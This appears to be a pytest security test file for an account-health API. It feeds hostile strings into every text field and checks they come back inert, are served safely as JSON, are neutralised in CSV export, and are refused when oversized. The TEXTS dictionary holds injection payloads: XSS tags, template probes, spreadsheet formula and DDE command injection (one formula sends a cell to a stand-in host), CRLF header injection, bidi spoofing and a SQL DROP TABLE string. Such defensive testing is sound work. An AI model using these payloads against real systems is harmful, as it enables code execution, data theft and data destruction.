"""Texts that would be more than text to somebody: kept as they came, told as JSON and as cells, and bounded."""

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from typing import Any, Final

import httpx2
import pytest

from tests.conftest import TestDatabase
from tests.journeys.filled import Tenant
from tests.journeys.running import fresh, send
from tests.security.inside import inside

NOW: Final = datetime.now(UTC)
AT: Final = (NOW - timedelta(days=2)).isoformat()
SOON: Final = (NOW + timedelta(days=2)).isoformat()
pytestmark = pytest.mark.slow
TEXTS: Final = {
    "script": "</title></textarea><script>alert(1)</script><img src=x onerror=alert(1)>",
    "template": "{{7*7}}${7*7}<%= 7*7 %>%(x)s{0}",
    "formula": '=HYPERLINK("http://x.example?"&A1,"y")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "signs": "-2+3\t=1",
    "lines": "a\r\nSet-Cookie: a=b\r\n\r\nb,c\n\"d\"",
    "bidi": "\u202eexe.fdp\u202c\u2066\u2067\u2068\u2069\u200e\u200f\u061c\ufeff",
    "quotes": "'\"`; DROP TABLE account_state; --\\",
}  # fmt: skip
LARGE: Final = "大=" * 262_144  # a megabyte


@pytest.fixture(scope="module")
async def teller(database: TestDatabase) -> AsyncIterator[Tenant]:
    """A tenant in which every text is an account's, a person's, a CSM's and a contact's."""
    async with inside(database) as genki:
        made = await genki.tenant("zqteller")
        await send(made.door, [fact for name, text in TEXTS.items() for fact in told(name, text)])
        await fresh(made.asker, datetime.now(UTC))
        for name, text in TEXTS.items():
            wish = {"band": "red", "reason": text, "expires_at": SOON}
            answer = await made.asker.post(f"/v1/accounts/{name}/health/override", json=wish)
            assert answer.status_code in (200, 201), answer.text
        await fresh(made.asker, datetime.now(UTC))
        yield made


def told(name: str, text: str) -> list[dict[str, Any]]:
    """Facts that hold the text wherever there is room for one."""
    mine = {"account_id": name, "at": AT}
    return [
        {"type": "csm", "id": f"s-{name}", "csm_id": f"csm-{name}", "name": text, "team": text, "at": AT},
        {**mine, "type": "account", "id": f"a-{name}", "name": text, "plan": text, "csm_id": f"csm-{name}",
         "traits": {"t": text}},
        {**mine, "type": "person", "id": f"p-{name}", "person_id": f"person-{name}", "name": text, "title": text},
        {**mine, "type": "contact", "id": f"c-{name}", "channel": "phone", "outcome": "reached", "note": text,
         "voices": [{"kind": "request", "text": text}]},
    ]  # fmt: skip


def texts_in(node: Any) -> list[str]:
    """Every text of a document."""
    if isinstance(node, dict):
        return [text for value in node.values() for text in texts_in(value)]
    if isinstance(node, list):
        return [text for value in node for text in texts_in(value)]
    return [node] if isinstance(node, str) else []


@pytest.mark.parametrize("name", TEXTS)
async def test_a_text_comes_back_as_it_came_and_no_browser_takes_the_answer_for_a_page(
    teller: Tenant, name: str
) -> None:
    paths = ["", "/people", "/timeline", "/health"]
    for path in [f"/v1/accounts/{name}{rest}" for rest in paths] + ["/v1/accounts", "/v1/coverage?by=csm"]:
        answer = await teller.asker.get(path)
        assert (path, answer.status_code) == (path, 200), answer.text
        assert answer.headers["content-type"].startswith("application/json"), path
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "default-src 'none'" in answer.headers["content-security-policy"]
        assert "set-cookie" not in answer.headers
        assert any(TEXTS[name] in text for text in texts_in(answer.json())), path


async def test_in_the_sheet_each_text_is_one_cell_and_none_a_formula(teller: Tenant) -> None:
    answer = await teller.asker.get("/v1/accounts?format=csv")
    header, *rows = csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"), newline=""))
    assert {len(row) for row in rows} == {len(header)}
    assert "attachment" in answer.headers["content-disposition"]
    named = {row[header.index("account_id")]: row[header.index("name")] for row in rows}
    assert {name: text.removeprefix("'") for name, text in named.items() if name != "quotes"} == {
        name: text for name, text in TEXTS.items() if name != "quotes"
    }
    cells = [cell for row in rows for cell in row if cell[:1] in tuple("=+-@\t\r\n")]
    assert [cell for cell in cells if not cell.lstrip("-").replace(".", "").isdigit()] == []


async def refused(answer: httpx2.Response) -> bool:
    """Whether the answer takes nothing, in few bytes."""
    results = answer.json().get("results", []) if answer.status_code == 200 else []
    assert len(answer.content) <= 16_384
    return answer.status_code in (400, 413, 422) or {one["status"] for one in results} == {"rejected"}


async def test_a_megabyte_of_text_is_taken_nowhere(teller: Tenant) -> None:
    for fact in told("large", LARGE):
        assert await refused(await teller.door.post("/v1/events", json=[fact])), fact["type"]
    sheet = f"account_id,name\nlarge,{LARGE}\n".encode()
    places: dict[str, Any] = {
        "/v1/accounts/script/health/override": {"band": "red", "reason": LARGE, "expires_at": SOON},
        "/v1/keep-list/script/reason": {"reason": LARGE},
        "/v1/keys": {"kind": "write", "label": LARGE},
        "/v1/surveys": {"name": LARGE},
    }
    for path, body in places.items():
        assert await refused(await teller.asker.post(path, json=body)), path
    large = {"value_features": [{"feature": LARGE, "weight": 1, "share": 1, "events": [LARGE]}]}
    assert await refused(await teller.asker.put("/v1/settings", json=large))
    imported = await teller.asker.post("/v1/imports/accounts", content=sheet, headers={"content-type": "text/csv"})
    assert len(imported.content) <= 16_384
    assert imported.status_code in (400, 413, 422) or imported.json()["accepted"] == 0, imported.text
    found = await teller.asker.get("/v1/accounts/large")
    assert found.status_code == 404
